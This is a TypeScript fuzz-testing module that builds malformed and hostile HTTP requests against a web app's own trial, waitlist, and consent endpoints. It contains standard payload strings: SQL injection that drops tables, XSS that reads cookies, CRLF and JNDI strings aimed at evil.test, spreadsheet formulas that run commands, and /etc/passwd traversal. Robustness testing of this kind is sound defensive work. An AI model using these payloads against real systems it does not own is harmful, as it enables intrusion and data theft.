/**
 * Malformed and hostile HTTP requests as fast-check arbitraries: wrong types, nulls,
 * nested objects, huge strings and bodies, control characters, invalid UTF-8, SQL, HTML and
 * CRLF injection strings in every field, wrong methods and content types, truncated JSON and
 * very long URLs, against every API endpoint and a sample of page routes. hostileRequests()
 * draws them with a fixed seed, so the same seed gives the same requests and a failure can be
 * replayed.
 */
import fc from 'fast-check'

export interface HostileRequest {
  method: string
  path: string
  headers: Record<string, string>
  body?: Uint8Array
  /** What was done to it, for the failure message. */
  label: string
}

const INJECTION_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE licenses; --",
  '1; select pg_sleep(10)--',
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  'x\r\nBcc: victim@evil.test',
  'x\r\nSet-Cookie: session=stolen',
  '%0d%0aLocation:%20http://evil.test',
  '=HYPERLINK("http://evil.test","click")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '\u0000',
  '\u0007\u001b[31m',
  'tab\there',
  '\u202egnp.exe',
  '\ud800',
  '\uffff\ufffe',
  'Zalgo z̷̛͖a̸l̵g̶o̷',
  '🦄'.repeat(40),
  '__proto__',
  'constructor',
  ' ',
  '',
]

const WEIRD_VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  ['a', 'b'],
  {},
  { nested: { deeper: { value: 'x' } } },
  { $gt: '' },
  'a'.repeat(101),
  'a'.repeat(5_000),
  '1',
  'true',
  'null',
]

const FIELDS = ['first_name', 'last_name', 'email', 'model', 'source', 'website', 'form_elapsed_ms']

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/json; charset=utf-16',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  '',
  'json',
  '*/*',
]

const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']

const PAGE_PATHS = [
  '/',
  '/terms',
  '/legal/terms',
  '/privacy-policy',
  '/cookie-policy',
  '/thank-you',
  '/thank-you?model=basic',
  '/scheduling-thank-you',
  '/sitemap.xml',
  '/robots.txt',
  '/lnf/chart.png',
  '/custom-uploads/screenshots/basic/1.png',
  '/assets/index.js',
  '/favicon.ico',
]

const encoder = new TextEncoder()
/** Percent-encodes; a lone surrogate becomes its (invalid) UTF-8 bytes, as a raw client sends them. */
const enc = (text: string) => {
  try {
    return encodeURIComponent(text)
  } catch {
    return '%ED%A0%80'
  }
}
const bytes = (text: string) => encoder.encode(text)
const json = (value: unknown) => bytes(JSON.stringify(value))
const short = (value: unknown) => JSON.stringify(value)?.slice(0, 40)

/** a with probability p, else b. */
const either = <A, B>(p: number, a: fc.Arbitrary<A>, b: fc.Arbitrary<B>): fc.Arbitrary<A | B> =>
  fc.oneof(
    { arbitrary: a, weight: Math.round(p * 100) },
    { arbitrary: b, weight: Math.round((1 - p) * 100) },
  )
/** A value with probability p, else undefined. */
const sometimes = <T>(p: number, arbitrary: fc.Arbitrary<T>) =>
  either(p, arbitrary, fc.constant(undefined))
const oneOf = <T>(...values: T[]) => fc.constantFrom(...values)

const injection = oneOf(...INJECTION_STRINGS)
const anyValue: fc.Arbitrary<unknown> = either(0.5, injection, oneOf(...WEIRD_VALUES))
const hex = (n: number) =>
  fc.string({ unit: oneOf(...'0123456789abcdef'), minLength: n, maxLength: n })

const validBody = fc
  .record({ n: fc.integer({ min: 0, max: 999_999_999 }), model: oneOf('basic', 'advanced') })
  .map(({ n, model }): Record<string, unknown> => ({
    first_name: 'Ada',
    last_name: 'Lovelace',
    email: `fuzz.${n}@example.com`,
    model,
    source: 'landing-trial-form',
  }))

interface MadeBody {
  body: Uint8Array
  label: string
}

/** A trial body with one or more fields broken, or a body that is not a trial at all. */
const trialBody: fc.Arbitrary<MadeBody> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.tuple(validBody, oneOf(...FIELDS), anyValue).map(([body, field, value]) => {
      body[field] = value
      return { body: json(body), label: `${field}=${short(value)}` }
    }),
  },
  fc.tuple(validBody, fc.tuple(...FIELDS.map(() => anyValue))).map(([body, values]) => {
    FIELDS.forEach((f, i) => (body[f] = values[i]))
    return { body: json(body), label: 'every field hostile' }
  }),
  fc.tuple(validBody, oneOf(...FIELDS.slice(0, 4))).map(([body, field]) => {
    delete body[field]
    return { body: json(body), label: 'a required field missing' }
  }),
  fc
    .tuple(validBody, oneOf('id', 'license_id', 'is_admin', 'constructor', 'waitlist'), anyValue)
    .map(([body, key, value]) => {
      body[key] = value
      return { body: json(body), label: 'an unknown field' }
    }),
  validBody.chain((body) => {
    const text = JSON.stringify(body)
    return fc
      .integer({ min: 0, max: text.length - 2 })
      .map((at) => ({ body: bytes(text.slice(0, at)), label: 'truncated JSON' }))
  }),
  oneOf(
    "{'single': 'quotes'}",
    'first_name=Ada&email=x',
    'undefined',
    'NaN',
    '{"a":1,}',
    '\u0000\u0001',
    '{"__proto__":{"admin":true},"first_name":"A"}',
    '{"first_name":"A","first_name":{"x":1}}',
  ).map((text) => ({ body: bytes(text), label: 'not JSON' })),
  validBody.chain((body) => {
    const text = json(body)
    return fc
      .tuple(
        fc.integer({ min: 0, max: text.length - 1 }),
        oneOf(
          [0xff],
          [0xc3, 0x28],
          [0xe2, 0x82],
          [0xed, 0xa0, 0x80],
          [0xf8, 0x88, 0x80, 0x80, 0x80],
        ),
      )
      .map(([at, bad]) => ({
        body: new Uint8Array([...text.slice(0, at), ...bad, ...text.slice(at)]),
        label: 'invalid UTF-8',
      }))
  }),
  fc.tuple(validBody, oneOf(16_385, 20_000, 100_000, 1_000_000)).map(([body, size]) => {
    body.first_name = 'x'.repeat(size)
    return { body: json(body), label: `huge body ${size}` }
  }),
  oneOf(50, 500, 5_000).map((depth) => ({
    body: bytes('{"first_name":' + '['.repeat(depth) + ']'.repeat(depth) + '}'),
    label: `nested ${depth}`,
  })),
  validBody.map((body) => ({ body: json([body]), label: 'an array' })),
  oneOf('null', '42', '"string"', 'true').map((text) => ({ body: bytes(text), label: 'a scalar' })),
  fc.constant({ body: new Uint8Array(), label: 'empty body' }),
  fc.tuple(validBody, injection).map(([body, s]) => {
    for (const f of ['first_name', 'last_name', 'source']) body[f] = s
    body.email = `${s}@example.com`
    return { body: json(body), label: `injection ${JSON.stringify(s)}` }
  }),
  validBody.map((body) => ({ body: json(body), label: 'valid' })),
)

const waitlistBody: fc.Arbitrary<MadeBody> = either(
  0.3,
  trialBody,
  either(0.3, oneOf(true, false), anyValue).map((value) => ({
    body: json({ waitlist: value }),
    label: `waitlist=${short(value)}`,
  })),
)

/** A consent record (POST /api/consents) with a field broken, or not a record at all. */
const consentBody: fc.Arbitrary<MadeBody> = either(
  0.3,
  trialBody,
  fc
    .record({
      id: hex(16),
      marketing: fc.boolean(),
      decidedAt: fc.integer({ min: 0, max: 999_999_999 }),
      field: oneOf(
        'id',
        'categories',
        'policy_version',
        'decided_at',
        'categories.marketing',
        'none',
      ),
      value: anyValue,
      date: either(
        5 / 6,
        oneOf<unknown>(
          '2026-02-30T00:00:00Z',
          '+275760-09-13T00:00:00.000Z',
          'yesterday',
          '1970-01-01',
          0,
        ),
        injection,
      ),
    })
    .map(({ id, marketing, decidedAt, field, value, date }) => {
      const record: Record<string, unknown> = {
        id: `c-${id}`,
        categories: { functional: true, media: false, marketing },
        policy_version: '2025-08-01',
        decided_at: new Date(1_790_000_000_000 + decidedAt).toISOString(),
      }
      if (field === 'categories.marketing')
        (record.categories as Record<string, unknown>).marketing = value
      else if (field === 'decided_at') record.decided_at = date
      else if (field !== 'none') record[field] = value
      return {
        body: json(record),
        label: `consent ${field}=${short(field === 'none' ? 'valid' : record[field.split('.')[0]!])}`,
      }
    }),
)

const uuidish = fc.oneof(
  fc
    .tuple(hex(8), hex(4), hex(3), hex(3), hex(12))
    .map(([a, b, c, d, e]) => `${a}-${b}-4${c}-8${d}-${e}`),
  oneOf(
    '00000000-0000-0000-0000-000000000000',
    'not-a-uuid',
    enc("1' or '1'='1"),
    '%00',
    '..%2f..%2fetc',
    'a'.repeat(300),
    enc('<script>'),
    '%E0%A4%A',
  ),
)

const contentType = (pJson: number) =>
  either(pJson, fc.constant('application/json'), oneOf(...CONTENT_TYPES))

/** What a request is before the headers every target may get. */
interface Target {
  method: string
  path: string
  headers: Record<string, string>
  body?: Uint8Array
  label: string
}

const submission: fc.Arbitrary<Target> = fc
  .record({
    made: trialBody,
    method: either(0.85, fc.constant('POST'), oneOf(...METHODS)),
    type: contentType(0.75),
  })
  .map(({ made, method, type }) => ({
    method,
    path: '/api/trial-submissions',
    headers: { 'content-type': type },
    body: made.body,
    label: `submit: ${made.label}, ${method} ${type || 'no content type'}`,
  }))

const waitlist: fc.Arbitrary<Target> = fc
  .record({
    made: waitlistBody,
    method: either(0.85, fc.constant('PATCH'), oneOf(...METHODS)),
    type: contentType(0.75),
    id: uuidish,
    authorization: oneOf(
      `Bearer ${'A'.repeat(43)}`,
      'Bearer ',
      'Bearer a.b.c',
      `Bearer ${'x'.repeat(5_000)}`,
      'Basic YWRtaW46YWRtaW4=',
      "Bearer ' OR 1=1 --",
      'Bearer %00',
      '',
    ),
  })
  .map(({ made, method, type, id, authorization }) => ({
    method,
    path: `/api/trial-submissions/${id}/waitlist`,
    headers: { 'content-type': type, authorization },
    body: made.body,
    label: `waitlist: ${made.label}, ${method} ${type || 'no content type'}`,
  }))

const consent: fc.Arbitrary<Target> = fc
  .record({
    made: consentBody,
    method: either(0.85, fc.constant('POST'), oneOf(...METHODS)),
    type: contentType(0.8),
  })
  .map(({ made, method, type }) => ({
    method,
    path: '/api/consents',
    headers: { 'content-type': type },
    body: made.body,
    label: `consent: ${made.label}, ${method} ${type || 'no content type'}`,
  }))

/** GET /api/license-counts or /readyz, sometimes with a query, a wrong method or a body. */
const readOnly = (target: 'counts' | 'readyz', base: string): fc.Arbitrary<Target> =>
  fc
    .record({
      method: either(0.7, fc.constant('GET'), oneOf(...METHODS)),
      query: sometimes(0.3, fc.tuple(injection, injection)),
      body: sometimes(0.5, fc.tuple(trialBody, oneOf(...CONTENT_TYPES))),
    })
    .map(({ method, query, body }): Target => {
      const withBody = method !== 'GET' && method !== 'HEAD' ? body : undefined
      return {
        method,
        path: query ? `${base}?${enc(query[0])}=${enc(query[1])}` : base,
        headers: withBody ? { 'content-type': withBody[1] } : {},
        body: withBody?.[0].body,
        label: target,
      }
    })

const apiUnknown: fc.Arbitrary<Target> = fc
  .tuple(
    oneOf(...METHODS),
    fc.oneof(
      oneOf(
        '/api',
        '/api/',
        '/api/admin',
        '/api/licenses',
        '/api/trial-submissions/x',
        '/api/../etc/passwd',
      ),
      injection.map((s) => `/api/${enc(s)}`),
    ),
  )
  .map(([method, path]) => ({ method, path, headers: {}, label: 'api-unknown' }))

const page: fc.Arbitrary<Target> = fc
  .record({
    method: either(0.7, fc.constant('GET'), oneOf(...METHODS)),
    path: oneOf(...PAGE_PATHS),
    query: sometimes(0.4, fc.tuple(oneOf('model', 'event_url', 'q', 'invitee'), injection)),
    last: sometimes(0.2, injection),
  })
  .map(({ method, path, query, last }) => {
    if (query) path += `${path.includes('?') ? '&' : '?'}${query[0]}=${enc(query[1])}`
    if (last !== undefined) path = path.replace(/\/[^/?]*$/, `/${enc(last)}`)
    return { method, path, headers: {}, label: 'page' }
  })

const longUrl: fc.Arbitrary<Target> = fc
  .record({
    method: oneOf('GET', 'POST'),
    prefix: oneOf('api/trial-submissions/', 'lnf/', '', 'custom-uploads/'),
    length: oneOf(2_000, 8_000, 30_000),
  })
  .map(({ method, prefix, length }) => ({
    method,
    path: `/${prefix}${'a'.repeat(length)}`,
    headers: {},
    label: 'long-url',
  }))

/** One hostile request against any endpoint, weighted towards the submission form. */
const hostileRequest: fc.Arbitrary<HostileRequest> = fc
  .record({
    target: fc.oneof(
      { arbitrary: submission, weight: 4 },
      { arbitrary: waitlist, weight: 2 },
      { arbitrary: consent, weight: 1 },
      { arbitrary: readOnly('counts', '/api/license-counts'), weight: 1 },
      { arbitrary: readOnly('readyz', '/readyz'), weight: 1 },
      { arbitrary: apiUnknown, weight: 1 },
      { arbitrary: page, weight: 2 },
      { arbitrary: longUrl, weight: 1 },
    ),
    forwardedFor: sometimes(
      0.15,
      oneOf('127.0.0.1', '::1, 10.0.0.1', "' OR 1=1", 'x'.repeat(500), ''),
    ),
    userAgent: sometimes(0.1, oneOf('', 'x'.repeat(4_000), '<script>', "sqlmap/1.0' OR 1=1")),
    acceptEncoding: sometimes(0.1, oneOf('br;q=x', 'gzip;q=-1', '*', 'identity;q=0, *;q=0')),
  })
  .map(({ target, forwardedFor, userAgent, acceptEncoding }) => {
    const headers = { ...target.headers }
    if (forwardedFor !== undefined) headers['x-forwarded-for'] = forwardedFor
    if (userAgent !== undefined) headers['user-agent'] = userAgent
    if (acceptEncoding !== undefined) headers['accept-encoding'] = acceptEncoding
    const { method, path } = target
    return {
      method,
      path,
      headers,
      body: method === 'GET' || method === 'HEAD' ? undefined : target.body,
      label: `${target.label} -> ${method} ${path.slice(0, 80)}`,
    }
  })

/** count requests drawn with this seed: the same seed, the same requests. */
export function hostileRequests(seed: number, count: number): HostileRequest[] {
  return fc.sample(hostileRequest, { seed, numRuns: count })
}

/** The status class of an answer, for the counts the suite prints. */
export function statusClass(status: number): string {
  return `${Math.floor(status / 100)}xx`
}
